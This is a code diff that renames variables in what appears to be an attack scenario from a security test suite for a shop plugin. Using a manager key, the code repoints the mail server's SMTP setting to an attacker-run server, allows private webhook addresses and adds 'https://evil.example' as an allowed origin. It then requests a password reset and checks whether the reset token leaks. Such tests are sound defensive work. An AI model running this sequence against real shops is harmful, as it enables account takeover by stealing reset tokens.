@@ -32,12 +32,12 @@ async function openMailServer() {
 }
 
 async function change(shop: AttackedShop, name: string, value: unknown): Promise<number> {
-  const answer = await fetch(`${shop.address}/wp-json/vitrine/v1/settings`, {
+  const response = await fetch(`${shop.address}/wp-json/vitrine/v1/settings`, {
     method: 'PUT',
     headers: { authorization: shop.managerKey, 'content-type': 'application/json' },
     body: JSON.stringify({ values: { [name]: value } }),
   });
-  return answer.status;
+  return response.status;
 }
 
 /** As the page for lost passwords does. */
@@ -78,7 +78,7 @@ export const attack: Attack = {
   async run(shop) {
     const mail = await openMailServer();
     try {
-      const wanted: [string, unknown][] = [
+      const changes: [string, unknown][] = [
         ['mail.smtpUrl', mail.url],
         ['accounts.staffSecondFactor', true],
         ['webhooks.allowPrivateAddresses', true],
@@ -89,7 +89,7 @@ export const attack: Attack = {
         ['api.allowedOrigins', ['https://evil.example']],
       ];
       const statuses = [];
-      for (const [name, value] of wanted) statuses.push(await change(shop, name, value));
+      for (const [name, value] of changes) statuses.push(await change(shop, name, value));
       await askForLink(shop);
       const sent = await isSent(shop);
       const arrived = mail.received().includes('token=');
